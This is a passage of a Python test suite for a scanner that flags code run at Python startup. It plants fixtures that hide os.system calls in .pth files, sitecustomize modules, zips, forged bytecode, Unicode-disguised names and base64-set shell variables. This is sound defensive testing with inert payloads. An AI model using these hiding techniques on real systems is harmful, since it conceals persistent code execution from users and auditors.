    """A Debian-like root with two venvs: /opt/v without system site packages, /opt/s with."""
    root = os.path.join(tmp, "faults")
    write(os.path.join(root, "etc/passwd"),
          "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    write(os.path.join(root, "usr/bin/python3.11"), b"")
    write(os.path.join(root, "usr/lib/python3.11/site.py"), SITE_PY)
    write(os.path.join(root, "usr/lib/python3.11/os.py"), "")
    for name, system in (("v", "false"), ("s", "true")):
        write(os.path.join(root, "opt", name, "pyvenv.cfg"),
              "home = /usr/bin\ninclude-system-site-packages = %s\nversion = 3.11.4\n" % system)
        write(os.path.join(root, "opt", name, "bin/python"), b"")
        os.makedirs(os.path.join(root, "opt", name, "lib/python3.11/site-packages"), exist_ok=True)
    return root


def catalogue_and_imports(sitewatch, tmp):
    """Checks the module-related verdicts. A template never clears the module it imports.
    Imports are followed past one level. Every os.spawn/exec/posix_spawn name is a primitive.
    Fullwidth names are read as Python reads them. site.addsitedir() folders are scanned. A .pth
    past --max-pth-lines is at least high."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    v = "/opt/v/lib/python3.11/site-packages/"
    write(os.path.join(site, "coverage/__init__.py"), "import os\nos.system('x')\ndef process_startup():\n    pass\n")
    write(os.path.join(site, "coverage.pth"), "import coverage; coverage.process_startup()\n")
    write(os.path.join(site, "__editable___demo_0_1_finder.py"), "import os\nos.system('x')\ndef install():\n    pass\n")
    write(os.path.join(site, "__editable__.demo-0.1.pth"),
          "import __editable___demo_0_1_finder; __editable___demo_0_1_finder.install()\n")
    write_record(site, "demo-0.1.dist-info", ["__editable__.demo-0.1.pth", "__editable___demo_0_1_finder.py"])
    write(os.path.join(site, "spawnp.pth"), "import os;os.posix_spawnp('id',['id'],dict(os.environ))\n")
    write(os.path.join(site, "two.pth"), "import innocent_helper\n")
    write(os.path.join(site, "innocent_helper.py"), "import innocent_helper_impl\n")
    write(os.path.join(site, "innocent_helper_impl.py"), "import os\nos.system('x')\n")
    write(os.path.join(site, "wide.pth"), "import os;os.\uff53\uff59\uff53\uff54\uff45\uff4d('id')\n")
    write(os.path.join(site, "wide2.pth"), "import \uff4fs;\uff45\uff58\uff45\uff43('1')\n")
    write(os.path.join(site, "sitecustomize.py"), "import os\nos.\U0001d42c\U0001d432stem('id')\n")
    write(os.path.join(root, "srv/stash/zz.pth"), "import os;os.system('x')\n")
    write(os.path.join(site, "sd.pth"), "import site;site.addsitedir('/srv/stash')\n")
    write(os.path.join(site, "many.pth"), "#\n" * 100000 + "import os;os.system('x')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    order = ["benign", "info", "low", "medium", "high", "critical"]

    def at_least(path, level, line=None, kind="pth"):
        got = [f for f in find(fs, path, kind) if line is None or f["line"] == line]
        return got and order.index(got[0]["verdict"]) >= order.index(level), got

    ok, got = at_least(v + "coverage.pth", "high")
    check(ok and "not cleared" in got[0]["reason"], "coverage.py's template does not clear a module with os.system (got %s)" % got)
    ok, got = at_least(v + "__editable__.demo-0.1.pth", "high")
    check(ok, "an editable finder whose RECORD matches does not clear its os.system (got %s)" % got)
    ok, got = at_least(v + "spawnp.pth", "high")
    check(ok and "posix_spawn" in got[0]["reason"], "os.posix_spawnp is a primitive (got %s)" % got)
    ok, got = at_least(v + "two.pth", "high")
    check(ok and v + "innocent_helper_impl.py" in got[0]["reason"],
          "a payload two imports away raises the line and is named (got %s)" % got)
    for name in ("wide.pth", "wide2.pth"):
        ok, got = at_least(v + name, "high")
        check(ok, "fullwidth letters spell the same names as Python's NFKC reads them: %s (got %s)" % (name, got))
    ok, got = at_least(v + "sitecustomize.py", "high", kind="sitecustomize")
    check(ok, "mathematical letters in a sitecustomize name os.system (got %s)" % got)
    ok, got = at_least("/srv/stash/zz.pth", "high", line=1)
    check(ok and got[0]["interpreters"] and v + "sd.pth" in got[0]["reason"],
          "the .pth files of a folder given to site.addsitedir() run and are reported (got %s)" % got)
    ok, got = at_least(v + "sd.pth", "high")
    check(ok, "a line calling site.addsitedir() is at least high (got %s)" % got)
    ok, got = at_least(v + "many.pth", "high")
    check(ok and "--max-pth-lines" in got[0]["reason"] and "os.system" in got[0]["reason"],
          "a .pth past --max-pth-lines is at least high and its later import lines are read (got %s)" % got)


def venv_second_pass(sitewatch, tmp):
    """A venv's site folder is read twice: an import that fails on the first pass because a later
    .pth adds its folder succeeds on the second, and the lines after it run."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(site, "a.pth"), "import latermod\nimport os;os.system('x')\n")
    write(os.path.join(site, "b.pth"), "/opt/later\n")
    write(os.path.join(root, "opt/later/latermod.py"), "import os\nos.system('x')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    line2 = [f for f in find(fs, "/opt/v/lib/python3.11/site-packages/a.pth", "pth") if f["line"] == 2]
    check(line2 and any(i["path"] == "/opt/v/bin/python" for i in line2[0]["interpreters"]),
          "a line after an import that succeeds only on the venv's second pass runs (got %s)" % line2)
    line1 = [f for f in find(fs, "/opt/v/lib/python3.11/site-packages/a.pth", "pth") if f["line"] == 1]
    check(line1 and "second pass" in line1[0]["reason"] and line1[0]["verdict"] in ("high", "critical"),
          "the reason names the second pass, and the module found then is judged (got %s)" % line1)


def shadowed_copy(sitewatch, tmp):
    """A --system-site-packages venv whose own setuptools has the same _distutils_hack as the
    system's: the system's distutils-precedence.pth stays benign."""
    root = faults_root(tmp)
    line = ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
            "'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    for site in (os.path.join(root, "usr/lib/python3/dist-packages"),
                 os.path.join(root, "opt/s/lib/python3.11/site-packages")):
        write(os.path.join(site, "distutils-precedence.pth"), line)
        write(os.path.join(site, "_distutils_hack/__init__.py"), "import sys\n")
        write_record(site, "setuptools-66.1.1.dist-info", ["_distutils_hack/__init__.py", "distutils-precedence.pth"])
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    system = find(fs, "/usr/lib/python3/dist-packages/distutils-precedence.pth", "pth")
    check(system and system[0]["verdict"] == "benign" and len(system[0]["interpreters"]) == 2,
          "an identical, recorded _distutils_hack in a venv does not make the system's line shadowed (got %s)" % system)
    write(os.path.join(root, "opt/s/lib/python3.11/site-packages/_distutils_hack/__init__.py"), "import os\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    system = find(fs, "/usr/lib/python3/dist-packages/distutils-precedence.pth", "pth")
    check(system and system[0]["verdict"] != "benign" and "shadows" in system[0]["reason"],
          "a different _distutils_hack ahead of the system's still shadows it (got %s)" % system)


def shell_parsing(sitewatch, tmp):
    """Environment files as a shell reads them: ${PYTHONPATH:+...}, backslash-newline,
    ~/.bash_aliases, and a value from a command."""
    root = faults_root(tmp)
    home = os.path.join(root, "home/alice")
    write(os.path.join(root, "opt/lib/sitecustomize.py"), "import os\nos.system('x')\n")
    write(os.path.join(home, ".cache/s.py"), "import os\nos.system('x')\n")
    write(os.path.join(home, ".bashrc"), 'export PYTHONPATH="/opt/lib${PYTHONPATH:+:$PYTHONPATH}"\n')
    write(os.path.join(home, ".bash_aliases"), "export PYTHONSTARTUP=/home/alice/.cache/s.py\n")
    write(os.path.join(home, ".bash_profile"), "export PYTHON\\\nSTARTUP=/home/alice/.cache/s.py\n")
    write(os.path.join(home, ".bash_login"),
          "export PYTHONSTARTUP=$(echo L2hvbWUvYWxpY2UvLmNhY2hlL3MucHk= | base64 -d)\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson"))
    check(not find(fs, "/home/alice/.bashrc", "pythonpath-empty"),
          "${PYTHONPATH:+:$PYTHONPATH} adds no empty element")
    opt = find(fs, "/opt/lib/sitecustomize.py", "sitecustomize")
    check(opt and opt[0]["verdict"] in ("high", "critical") and ".bashrc:1" in opt[0]["reason"],
          "the folder before ${PYTHONPATH:+...} is /opt/lib, searched for sitecustomize (got %s)" % opt)
    for name in (".bash_aliases", ".bash_profile"):
        got = find(fs, "/home/alice/" + name, "startup-env")
        check(got and got[0]["verdict"] in ("high", "critical"),
              "PYTHONSTARTUP in %s is read and its script judged (got %s)" % (name, got))
    got = find(fs, "/home/alice/.bash_login", "startup-env")
    check(got and got[0]["verdict"] in ("medium", "high", "critical") and "command" in got[0]["reason"],
          "PYTHONSTARTUP from $(...) is at least medium and says why (got %s)" % got)


def option_files_and_modes(sitewatch, tmp):
    """Relative --baseline and --allow names come from the working folder; a mode change under
    --baseline is reported even when the verdict stays; --help agrees with the docs."""
    root = faults_root(tmp)
    pth = os.path.join(root, "opt/v/lib/python3.11/site-packages/a.pth")
    write(pth, "import os;os.getpid()\n", 0o666)
    work = os.path.join(tmp, "cwd")
    os.makedirs(work, exist_ok=True)
    base = subprocess.run([sitewatch, "scan", "--root", root, "--no-env", "--format", "json"],
                          capture_output=True, text=True, cwd=work).stdout
    write(os.path.join(work, "base.json"), base)
    write(os.path.join(work, "allow.txt"), "# nothing allowed\n")
    for option, name in (("--baseline", "base.json"), ("--allow", "allow.txt")):
        proc = subprocess.run([sitewatch, "scan", "--root", root, "--no-env", option, name],
                              capture_output=True, text=True, cwd=work)
        check(proc.returncode in (0, 1), "a relative %s name is read from the working folder (%s)" % (option, proc.stderr.strip()))
    os.chmod(pth, 0o644)
    proc = subprocess.run([sitewatch, "scan", "--root", root, "--no-env", "--format", "ndjson",
                           "--baseline", "base.json"], capture_output=True, text=True, cwd=work)
    got = find(findings_of(proc), "/opt/v/lib/python3.11/site-packages/a.pth", "pth")
    check(got and got[0].get("changed") and "permissions changed" in got[0]["reason"],
          "a mode change since the baseline is reported as changed (got %s)" % got)
    usage = subprocess.run([sitewatch, "scan", "--help"], capture_output=True, text=True)
    check("first and last MiB" in usage.stdout + usage.stderr and "reported, not analysed" not in usage.stdout,
          "--help says that an oversize file's first and last MiB are analysed")


def verdict_of(fs, path, kind=None, line=None):
    got = [f for f in find(fs, path, kind) if line is None or f.get("line") == line]
    return (got[0]["verdict"], got[0]["reason"]) if got else (None, "")


def high(verdict):
    return verdict in ("high", "critical")


def module_hooks(sitewatch, tmp):
    """Code a hook reaches through a package's submodules, a customize module's imports, a zip
    on the path, a coding comment and bytecode caches: each payload is judged."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    payload = "import os\nos.system('true')\n"
    for pkg, init in (("pa", ""), ("pb", "from . import sub\n"), ("pc", "from pc import sub\n")):
        write(os.path.join(site, pkg, "__init__.py"), init)
        write(os.path.join(site, pkg, "sub.py"), payload)
    write(os.path.join(site, "a.pth"), "import pa.sub\n")
    write(os.path.join(site, "b.pth"), "import pb\n")
    write(os.path.join(site, "c.pth"), "import pc\n")
    write(os.path.join(site, "sitecustomize.py"), "import stage2\nimport importlib\nimportlib.import_module('sta' + 'ge3')\n")
    write(os.path.join(site, "stage2.py"), "x = 1\n")
    write(os.path.join(site, "stage3.py"), payload)
    write(os.path.join(site, "lazy.py"), "def later():\n    from tool.cli import main\n    main()\n")
    write(os.path.join(site, "tool/__init__.py"), "")
    write(os.path.join(site, "tool/cli.py"), payload)
    write(os.path.join(site, "d.pth"), "import lazy\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/d.pth", "pth")
    check(v == "low" and "cli.py" not in why,
          "a submodule imported only inside a function is not followed past its package (got %s)" % v)
    for name in ("a", "b", "c"):
        v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/%s.pth" % name, "pth")
        check(high(v) and "sub.py" in why, "%s.pth: a payload in a package's submodule is followed (got %s)" % (name, v))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/sitecustomize.py", "sitecustomize")
    check(high(v) and "stage3.py" in why and "stage2.py" in why,
          "a sitecustomize's imports, a folded import_module() name too, are followed (got %s: %s)" % (v, why[:300]))
    module_hooks_path(sitewatch, os.path.join(tmp, "path"))
    module_hooks_zip(sitewatch, os.path.join(tmp, "zip"))
    module_hooks_bytecode(sitewatch, os.path.join(tmp, "pyc"))


def module_hooks_path(sitewatch, tmp):
    """A module an earlier .pth imports extends sys.path or sys.meta_path: later lines run."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(site, "a.pth"), "import setup_path\n")
    write(os.path.join(site, "setup_path.py"), "import sys\nsys.path.append('/opt/hidden')\n")
    write(os.path.join(root, "opt/hidden/ghost.py"), "x = 1\n")
    write(os.path.join(site, "b.pth"), "import ghost\nimport os; os.system('true')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    line2 = [f for f in find(fs, "/opt/v/lib/python3.11/site-packages/b.pth", "pth") if f["line"] == 2]
    check(line2 and line2[0]["interpreters"] and high(line2[0]["verdict"]),
          "a line after an import that an earlier module's sys.path change satisfies runs (got %s)" % line2)
    _, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/b.pth", "pth", 1)
    check("setup_path.py" in why and "can change what imports find" in why,
          "the reason names the module that can change the import system (got %s)" % why[:300])


def zip_bytes(members, method):
    import io
    import zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def module_hooks_zip(sitewatch, tmp):
    """A sitecustomize in a zip that a .pth path line adds, stored or deflated; a damaged zip."""
    import zipfile
    for method, label in ((zipfile.ZIP_STORED, "stored"), (zipfile.ZIP_DEFLATED, "deflated")):
        root = faults_root(os.path.join(tmp, label))
        site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
        write(os.path.join(root, "opt/z.zip"),
              zip_bytes({"sitecustomize.py": "import os\nos.system('true')  # " + "pad " * 40 + "\n"}, method))
        write(os.path.join(site, "z.pth"), "/opt/z.zip\n")
        fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
        v, why = verdict_of(fs, "/opt/z.zip/sitecustomize.py", "sitecustomize")
        check(high(v) and "zip archive" in why, "a %s sitecustomize in a zip on a path line is judged (got %s)" % (label, v))
    root = faults_root(os.path.join(tmp, "damaged"))
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(root, "opt/z.zip"), b"PK\x03\x04 not really a zip")
    write(os.path.join(site, "z.pth"), "/opt/z.zip\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/z.pth", "pth-path")
    check(high(v) and "unreadable archive" in why, "a zip that cannot be read on a path line is high (got %s)" % v)


def module_hooks_bytecode(sitewatch, tmp):
    """A UTF-7 coding comment; a forged cache of a module a .pth imports; a checked hash-based
    .pyc (flags 3) whose code differs from its source."""
    import marshal
    import struct
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(site, "sitecustomize.py"), "# -*- coding: utf-7 -*-\nx = 1\n")
    write(os.path.join(site, "helper.py"), "x = 1\n")
    write(os.path.join(site, "h.pth"), "import helper\n")
    cache = os.path.join(site, "__pycache__")
    st = os.stat(os.path.join(site, "helper.py"))
    write(os.path.join(cache, "helper.cpython-311.pyc"),
          pyc_bytes(b"import os\nos.system('true')\n", int(st.st_mtime), st.st_size))
    write(os.path.join(site, "checked.py"), "x = 1\n")
    write(os.path.join(site, "k.pth"), "import checked\n")
    code = marshal.dumps(compile("import os\nos.system('true')\n", "<fixture>", "exec"))
    write(os.path.join(cache, "checked.cpython-311.pyc"),
          struct.pack("<HHI", 3495, 0x0a0d, 3) + b"\0" * 8 + code)
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/sitecustomize.py", "sitecustomize")
    check(high(v) and "utf-7" in why, "a UTF-7 coding comment in a customize module is high (got %s)" % v)
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/h.pth", "pth")
    check(high(v) and "helper.cpython-311.pyc" in why,
          "the cached bytecode of a module a .pth imports is judged (got %s)" % v)
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/k.pth", "pth")
    check(high(v) and "checked.cpython-311.pyc" in why,
          "a checked hash-based .pyc (flags 3) of a module a .pth imports is judged (got %s)" % v)


def allow_and_baseline_modules(sitewatch, tmp):
    """An --allow entry for a .pth does not clear it once the module it imports is rated high;
    --baseline reports a rewritten module behind an unchanged line."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    pth = os.path.join(site, "agent.pth")
    write(pth, "import agent\n")
    write(os.path.join(site, "agent.py"), "x = 1\n")
    with open(pth, "rb") as f:
        write(os.path.join(tmp, "allow.txt"), hashlib.sha256(f.read()).hexdigest() + " */agent.pth\n")
    base = scan(sitewatch, "--root", root, "--format", "json", "--no-env").stdout
    write(os.path.join(tmp, "base.json"), base)
    write(os.path.join(site, "agent.py"), "y = 2\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env",
                          "--baseline", os.path.join(tmp, "base.json")))
    got = find(fs, "/opt/v/lib/python3.11/site-packages/agent.pth", "pth")
    check(got and got[0].get("changed"), "a rewritten module behind an unchanged .pth is a change (got %s)" % got)
    write(os.path.join(site, "agent.py"), "import os\nos.system('true')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env",
                          "--allow", os.path.join(tmp, "allow.txt")))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/agent.pth", "pth")
    check(high(v) and "not cleared" in why, "an --allow entry does not clear a line whose module is rated high (got %s)" % v)


def sourced_and_native(sitewatch, tmp):
    """Checks four cases: PYTHONSTARTUP in a file that .bashrc sources or set through eval of
    constant strings, a native sitecustomize, primitives reached through other names, and a
    sitecustomize in a folder that a path line adds."""
    root = faults_root(tmp)
    home = os.path.join(root, "home/alice")
    write(os.path.join(home, ".bashrc"), "if true; then\n  . ~/.config/py.sh\nfi\n")
    write(os.path.join(home, ".config/py.sh"), "export PYTHONSTARTUP=/home/alice/s.py\n")
    write(os.path.join(home, ".bash_login"), "eval \"export PYTHON\"\"STARTUP=/home/alice/s.py\"\n")
    write(os.path.join(home, "s.py"), "import os\nos.system('true')\n")
    os.makedirs(os.path.join(home, ".local"), exist_ok=True)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(site, "sitecustomize.cpython-311-x86_64-linux-gnu.so"),
          b"\x7fELF\x02\x01\x01" + b"\0" * 64 + b"\0system\0PyInit_sitecustomize\0")
    lines = {"posix": "import posix; posix.system('true')", "timeit": "import timeit; timeit.timeit('0')",
             "star": "import os; from os import *; system('true')",
             "get": "import sys; m = sys.modules.get('os'); m.system('true')",
             "assign": "import os; m = os; m.system('true')",
             "loader": "import importlib.util as u; s = u.spec_from_file_location('x', '/opt/x.py'); s.loader.exec_module(u.module_from_spec(s))"}
    for name, line in lines.items():
        write(os.path.join(site, name + ".pth"), line + "\n")
    write(os.path.join(root, "opt/s/lib/python3.11/site-packages/p.pth"), "/opt/hooks\n")
    vendor = os.path.join(root, "usr/lib/vendor-sdk/platform/py")
    write(os.path.join(vendor, "bin/python3.12"), b"")
    write(os.path.join(vendor, "lib/python3.12/site-packages/v.pth"), "import os; os.system('true')\n")
    write(os.path.join(root, "opt/hooks/sitecustomize.py"), "x = 1\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson"))
    v, why = verdict_of(fs, "/home/alice/.config/py.sh", "startup-env")
    check(high(v) and "/home/alice/.bashrc:2 sources" in why, "PYTHONSTARTUP in a file .bashrc sources is read (got %s: %s)" % (v, why[:200]))
    v, why = verdict_of(fs, "/home/alice/.bash_login", "startup-env")
    check(high(v) and "eval" in why, "PYTHONSTARTUP through eval of constant strings is read (got %s)" % v)
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/sitecustomize.cpython-311-x86_64-linux-gnu.so")
    check(high(v) and "system()" in why, "a native sitecustomize linking system() is high (got %s: %s)" % (v, why[:200]))
    for name in lines:
        v, _ = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/%s.pth" % name, "pth")
        check(high(v), "the %s primitive in a .pth line is at least high (got %s)" % (name, v))
    table = scan(sitewatch, "--root", root, "--format", "table").stdout
    check("3.11.4 x2" in table and "run by /usr/bin/python3.11, /opt/s/bin/python" in table,
          "the table counts equal versions and names the interpreters by path")
    vendor = find(fs, "/usr/lib/vendor-sdk/platform/py/lib/python3.12/site-packages/v.pth", "pth")
    check(vendor and vendor[0]["interpreters"], "an interpreter bundled under /usr/lib is scanned by default (got %s)" % vendor)
    v, why = verdict_of(fs, "/opt/hooks/sitecustomize.py", "sitecustomize")
    check("path line /opt/s/lib/python3.11/site-packages/p.pth:1" in why,
          "a sitecustomize on a folder a path line adds names that line (got %s)" % why[:200])


def write_zip(path, members, method=zipfile.ZIP_STORED):
    """A zip of (name, text) pairs in this order; a repeated name gives two directory entries."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about a duplicate name, which is the point
        with zipfile.ZipFile(path, "w", method) as z:
            for name, text in members:
                z.writestr(name, text)


def zip_evasions(sitewatch, tmp):
    """Zips a path line puts on sys.path, built so that scan and zipimport could disagree."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write_zip(os.path.join(root, "opt/dup.zip"),
              [("sitecustomize.py", "# benign\n"), ("sitecustomize.py", "import os\nos.system('true')\n")])
    write(os.path.join(site, "dup.pth"), "/opt/dup.zip\n")
    write_zip(os.path.join(root, "opt/pp.zip"), [("usercustomize.py", "import os\nos.system('true')\n")])
    write(os.path.join(root, "etc/environment"), "PYTHONPATH=/opt/pp.zip\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson"))
    v, why = verdict_of(fs, "/opt/pp.zip/usercustomize.py", "usercustomize")
    check(high(v) and "PYTHONPATH in /etc/environment:1" in why,
          "a customize module in a zip that PYTHONPATH names is judged (got %s: %s)" % (v, why[:200]))
    v, why = verdict_of(fs, "/opt/dup.zip/sitecustomize.py", "sitecustomize")
    check(high(v) and "more than one entry named sitecustomize.py" in why,
          "of two zip members with one name, the last (the one zipimport runs) is judged (got %s: %s)" % (v, why[:200]))
    v, why = verdict_of(fs, os.path.join("/opt/v/lib/python3.11/site-packages/dup.pth"), "pth-path")
    check(v in ("medium", "high", "critical") and "more than one entry named" in why,
          "a path line adding a zip with a duplicate name is at least medium (got %s: %s)" % (v, why[:200]))


def zip_imports(sitewatch, tmp):
    """Imports are followed into a zip on sys.path: a zipped sitecustomize's own import, a package
    and its submodule, a relative import inside it, a flat module, and a member too large to read."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    payload = "import os\nos.system('true')\n"
    write_zip(os.path.join(root, "opt/imp.zip"),
              [("sitecustomize.py", "import e_stage2\n"), ("e_stage2.py", payload),
               ("f_mod/__init__.py", ""), ("f_mod/sub.py", payload),
               ("r_mod/__init__.py", "from . import inner\n"), ("r_mod/inner.py", payload),
               ("g_flat.py", payload), ("big_mod.py", "#" * 300000 + "\n")], zipfile.ZIP_DEFLATED)
    write(os.path.join(site, "a.pth"), "/opt/imp.zip\n")
    for name in ("f_mod.sub", "r_mod", "g_flat", "big_mod"):
        write(os.path.join(site, name.split(".")[0] + ".pth"), "import %s\n" % name)
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--max-file-size", "100000"))
    v, why = verdict_of(fs, "/opt/imp.zip/sitecustomize.py", "sitecustomize")
    check(high(v) and "imports e_stage2 from /opt/imp.zip/e_stage2.py" in why,
          "a zipped sitecustomize's import is followed into the zip (got %s: %s)" % (v, why[:300]))
    for name, member in (("f_mod", "f_mod/sub.py"), ("r_mod", "r_mod/inner.py"), ("g_flat", "g_flat.py")):
        v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/%s.pth" % name, "pth")
        check(high(v) and "/opt/imp.zip/" + member in why,
              "a .pth import of %s is followed into the zip (got %s: %s)" % (member, v, why[:300]))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/big_mod.pth", "pth")
    check(high(v) and "cannot be read from its zip archive" in why,
          "a zipped module larger than --max-file-size is high, as unread (got %s: %s)" % (v, why[:300]))


def native_import(sitewatch, tmp):
    """A .pth import line whose module is an extension module: judged as a native sitecustomize."""
    root = faults_root(tmp)
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(site, "natx.cpython-311-x86_64-linux-gnu.so"),
          b"\x7fELF\x02\x01\x01" + b"\0" * 64 + b"\0system\0PyInit_natx\0")
    write(os.path.join(site, "naty.cpython-311-x86_64-linux-gnu.so"),
          b"\x7fELF\x02\x01\x01" + b"\0" * 64 + b"\0PyInit_naty\0")
    write(os.path.join(site, "natx.pth"), "import natx\n")
    write(os.path.join(site, "naty.pth"), "import naty\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson"))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/natx.pth", "pth")
    check(high(v) and "links against system()" in why,
          "a .pth import of an extension module linking system() is high (got %s: %s)" % (v, why[:300]))
    v, why = verdict_of(fs, "/opt/v/lib/python3.11/site-packages/naty.pth", "pth")
    check(v in ("medium", "high", "critical") and "native extension module" in why,
          "a .pth import of any extension module is at least medium (got %s: %s)" % (v, why[:300]))
    check(not why.rstrip().endswith(":") and ": ;" not in why,
          "the import's reason ends in what was found, not an empty clause (got %s)" % why[-200:])


def machine_scan(sitewatch):
    proc = scan(sitewatch, "--format", "json", timeout=300)
    check(proc.returncode in (0, 1), "a scan of this machine finishes (status %d, %s)" % (proc.returncode, proc.stderr[-300:]))
    try:
        doc = json.loads(proc.stdout)
    except ValueError:
        check(False, "the machine scan prints one JSON document")
        return
    names = [i["path"] + " " + i["version"] for i in doc["interpreters"]]
    print("     machine interpreters: " + ", ".join(names))
    if os.path.exists("/usr/bin/python3.11"):
        check(any(i["path"] == "/usr/bin/python3.11" for i in doc["interpreters"]),
              "the machine scan finds /usr/bin/python3.11")


def main():
    sitewatch = os.path.abspath(sys.argv[1])
    tmp = tempfile.mkdtemp(prefix="sitewatch-scan-")
    try:
        root = os.path.join(tmp, "image")
        dist = build_image(root)
        image_checks(sitewatch, root, dist)
        usage_and_table(sitewatch, root)
        explicit_paths(sitewatch, root)
        allow_and_baseline(sitewatch, root, dist, tmp)
        silent_truncation(sitewatch, tmp)
        blocked_customize(sitewatch, tmp)
        followed_imports(sitewatch, root, dist)
        hostile_tree(sitewatch, tmp)
        allow_settings(sitewatch, root, tmp)
        max_findings(sitewatch, root)
        baseline_changes(sitewatch, root, dist, tmp)
        depth_and_table(sitewatch, tmp)
        for name, step in (("cat", catalogue_and_imports), ("pass", venv_second_pass),
                           ("copy", shadowed_copy), ("shell", shell_parsing), ("opts", option_files_and_modes),
                           ("mods", module_hooks), ("allowmod", allow_and_baseline_modules),
                           ("native", sourced_and_native), ("zips", zip_evasions),
                           ("natimport", native_import), ("zipimports", zip_imports)):
            step(sitewatch, os.path.join(tmp, name))
        machine_scan(sitewatch)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    print("%d passed, %d failed" % (len(PASSED), len(FAILURES)))
    return 1 if FAILURES else 0


if __name__ == "__main__":
    sys.exit(main())
